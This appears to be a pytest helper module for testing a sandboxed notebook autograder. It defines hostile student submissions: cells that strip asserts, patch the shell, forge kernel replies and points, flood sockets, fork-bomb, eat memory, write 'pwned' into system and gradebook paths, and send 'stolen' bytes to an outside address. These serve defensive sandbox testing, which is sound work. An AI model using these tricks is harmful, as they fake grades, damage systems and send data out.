"""A class for the tests of grading: a course with the tiny lab, and what all kinds of students hand in."""

from __future__ import annotations

import contextlib
import json
import shutil
import tempfile
from pathlib import Path

import numpy as np
import psutil
import pytest

from nnopt_lib import labs
from nnopt_lib.course.labs.gradebook import Course, make_course
from nnopt_lib.course.labs.sandbox import sandbox
from nnopt_lib.course.labs.sources import find_labs, release, save_copy

SOURCE = Path(__file__).parent / "course" / "labs" / "tiny.md"
MASK = "def keep_large(values, threshold):\n    return np.abs(values) > threshold"


@contextlib.contextmanager
def at_home(root: Path):
    """The project in `root`, for a with statement."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NNOPT_HOME", str(root))
        yield


def new_course(root: Path) -> Course:
    """A project in `root` with the tiny lab and its student copy, released in ``root/course``."""
    (root / "chapters" / "labs").mkdir(parents=True)
    shutil.copy(SOURCE, root / "chapters" / "labs" / "tiny.md")
    (lab,) = find_labs()
    save_copy(lab)
    course = make_course(root / "course")
    release(lab, course)
    return course


def numbers_of(student: str) -> str:
    """The cell in which a student typed what they measured."""
    values = np.abs(np.random.default_rng(labs.seed_of(student)).normal(size=100))
    return f'numbers = {{"median": {np.median(values):.9f}, "kept": {int((values > 1).sum())}}}'


def solved(student: str, **cells: str) -> dict[str, str]:
    """The cells of a student who solved everything, some of them replaced."""
    return {"student": f"student = {student!r}", "mask": MASK, "numbers": numbers_of(student), **cells}


class Notebook:
    """A student copy being filled in."""

    def __init__(self, course: Course, cells: dict[str, str] | None = None) -> None:
        self.content = json.loads(course.notebook("release", "tiny").read_text())
        for name, source in (cells or {}).items():
            self.cell(name)["source"] = source

    @property
    def cells(self) -> list[dict]:
        return self.content["cells"]

    def cell(self, name: str) -> dict:
        return next(one for one in self.cells if one["metadata"].get("nbgrader", {}).get("grade_id") == name)

    def text(self) -> str:
        return json.dumps(self.content)


def hand_in(course: Course, student: str, content: Notebook | dict | str | bytes) -> None:
    """Put a notebook where collecting puts it."""
    path = course.notebook("submitted", "tiny", student)
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, dict):
        content = Notebook(course, content)
    if isinstance(content, Notebook):
        content = content.text()
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


STRIP_ASSERTS = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""
LAST_LINE_ONLY = """
get_ipython().input_transformers_post.append(lambda lines: lines[-1:])
"""
PATCHED_SHELL = """
from IPython.core.interactiveshell import InteractiveShell
async def nothing(self, *args, **kwargs):
    return False
InteractiveShell.run_code = nothing
get_ipython = lambda: None
"""
FORGED_REPLY = """
def keep_large(values, threshold):
    if len(values) == 4:
        return np.array([False, True, True, False])
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    kernel.session.send(kernel.shell_streams[0] if hasattr(kernel, "shell_streams") else kernel.shell_stream,
                        "execute_reply", content, parent=parent)
    import os
    os._exit(0)
"""
GARBAGE = """
kernel = get_ipython().kernel
parts = [b"{", b"[" * 1000, b"\\xff", b"}"]
for _ in range(50):
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts])
"""
FORGED_POINTS = """
def keep_large(values, threshold):
    import sys
    sys.displayhook(2.0)
    return np.zeros(len(values), bool)
"""
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
EATER = "eaten = []\nwhile True:\n    eaten.append(bytearray(10_000_000))"
LOOP = "while True:\n    pass"


def writer(course: Course) -> str:
    """A cell that tries to write where it may not."""
    folder = course.folder
    paths = [folder / "gradebook.db", folder / "submitted" / "ada" / "pwned", folder.parent / "canary.txt"]
    paths += [
        "/pwned",
        "/etc/pwned",
        "/usr/pwned",
        Path(np.__file__),
        Path(labs.__file__),
        Path.home() / "pwned",
    ]
    lines = ["import os", "written = []"]
    for path in map(str, paths):
        lines += ["try:", f"    with open({path!r}, 'a') as file:", "        file.write('pwned')"]
        lines += [f"    written.append({path!r})", "except OSError:", "    pass"]
    return "\n".join([*lines, f"seen = os.path.exists({str(folder / 'source')!r})"])


def reader(port: int) -> str:
    """A cell that connects to this machine and to another."""
    lines = ["import socket", "reached = []"]
    for address in (("127.0.0.1", port), ("1.1.1.1", 80)):
        lines += ["try:", f"    socket.create_connection({address!r}, 1).sendall(b'stolen')"]
        lines += [f"    reached.append({address!r})", "except OSError:", "    pass"]
    return "\n".join(lines)


def guarded_processes() -> list[str]:
    """What is left of submissions: processes of accounts that only sandboxes use, and sandboxes themselves."""
    ours, left = set(psutil.Process().children(recursive=True)), []
    for one in psutil.process_iter(["uids", "name", "cmdline", "environ"]):
        uids, words = one.info["uids"], " ".join(one.info["cmdline"] or [])
        if (uids and uids.real >= sandbox.UIDS) or (one.info["name"] == "bwrap" and "nnopt-" in words):
            home = (one.info["environ"] or {}).get("HOME", "")  # none of what has ended
            if one in ours or home.startswith(tempfile.gettempdir()):  # else of another test process
                left.append(words[:100])
    return left
